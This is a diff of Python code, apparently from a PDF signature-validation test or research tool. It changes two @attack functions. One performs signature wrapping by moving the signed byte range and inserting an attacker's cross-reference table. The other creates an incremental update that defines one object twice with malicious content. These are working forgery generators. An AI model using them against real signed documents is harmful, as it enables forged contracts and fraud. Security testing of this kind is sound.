@@ -173,12 +173,19 @@ def appended_same_object(f):
 
 @attack
 def swa(f):
-    start, end = f.holes[-1]
-    evil = b"\n%d 0 obj\n%s\nendobj\n" % (f.content, EVIL)
-    moved = f.data[:end] + b">>\nendobj\n" + evil + f.data[end:]
+    """The signed end moves back; where its startxref points, a table of the attacker's waits."""
+    _, end = f.holes[-1]
+    table = b"xref\n%d 1\n%010d 00000 n \ntrailer\n<</Size %d/Root %d 0 R%s/Prev %d>>\n"
+    evil = b">>\nendobj\n%d 0 obj\n%s\nendobj\n" % (f.content, EVIL)
+    first = int(re.search(rb"startxref\n(\d+)\n", f.data).group(1))
+    table %= f.content, end + len(b">>\nendobj\n"), f.size, f.root, f.id, first
+    # What does not fit between hole and table stands behind it.
+    gap = b">>\nendobj\n".ljust(f.start - end)
+    gap += table.replace(b"%010d" % (end + 10), b"%010d" % (f.start + len(table))) + evil[10:]
+    moved = f.data[:end] + gap + f.data[end:]
     at = last_range(f)
     a, b, c = re.search(rb"0 (\d+) (\d+) (\d+)", f.data[at:at + 60]).groups()
-    text = b"[0 %d %d %d" % (int(a), int(b) + len(moved) - len(f.data), int(c))
+    text = b"[0 %d %d %d" % (int(a), int(b) + len(gap), int(c))
     return moved[:at + 10] + text.ljust(35) + b"]" + moved[at + 46:]
 
 
@@ -463,8 +470,12 @@ def table_of_another_generation(f):
 
 @attack
 def object_twice_in_a_revision(f):
-    both = f.update({f.size: b"null"}).rsplit(b"xref\n", 2)[0]
-    return f.update({f.size: EVIL}, base=None) + both[len(f.data):]
+    at, number = len(f.data), f.content
+    first = b"%d 0 obj\n%s\nendobj\n" % (number, f.object(number))
+    both = first + b"%d 0 obj\n%s\nendobj\n" % (number, EVIL)
+    table = b"".join(b"%d 1\n%010d 00000 n \n" % (number, n) for n in (at, at + len(first)))
+    return f.data + both + b"xref\n" + table + b"trailer\n<</Size %d/Root %d 0 R%s/Prev %d>>\n" \
+        b"startxref\n%d\n%%%%EOF\n" % (f.size, f.root, f.id, f.start, at + len(both))
 
 
 @attack
